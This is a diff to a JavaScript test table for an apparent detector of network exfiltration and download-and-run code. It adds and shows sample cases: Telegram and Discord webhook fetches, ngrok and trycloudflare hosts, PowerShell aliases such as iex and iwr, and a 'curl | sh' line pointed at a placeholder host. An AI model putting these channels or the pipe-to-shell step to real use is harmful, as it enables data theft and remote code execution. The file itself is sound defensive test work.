@@ -32,6 +32,11 @@ testTable({
       ['a Telegram library', 'fetch(`https://api.telegram.org/bot${token}/getMe`)'],
       ['a Discord library', 'fetch(`https://discord.com/api/webhooks/${id}/${token}`)'],
       ["a webhook's form", "'https://discord.com/api/webhooks/<id>/<token>'"],
+      ['a pattern', "log('a random *.trycloudflare.com address')"],
+      [
+        'a list of public suffixes',
+        `[${Array.from({ length: 20 }, (_, at) => `"a${at}.example"`).join()},"ngrok.io",${Array.from({ length: 20 }, (_, at) => `"b${at}.example"`).join()}]`,
+      ],
       ["Slack's example", "'https://hooks.slack.com/services/T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX'"],
     ],
   },
@@ -76,6 +81,8 @@ testTable({
       ["a record's prefix", 'dns.resolveTxt(`_dmarc.${domain}`)'],
       ["mongodb's", 'dns.resolveSrv(`_mongodb._tcp.${host}`)'],
       ['a variable', 'dns.lookup(host, f)'],
+      ['a module', 'require.resolve(`next/dist/a${b}.runtime.dev.js`)'],
+      ['a message', 'log(`Switched host to ${options.targetHostname}.example`)'],
       ['another look-up', 'cache.lookup(key, f)'],
     ],
   },
@@ -106,6 +113,7 @@ testTable({
     misses: [
       ['in a comment', '// curl https://a.example | sh\nf()'],
       ['without a pipe', "exec('curl -O https://a.example')"],
+      ['a list of commands', "'gwmi h history icm iex ihy irm ise iwmi iwr kill lp ls'"],
       ['to another tool', "exec('curl https://a.example | jq .')"],
     ],
   },
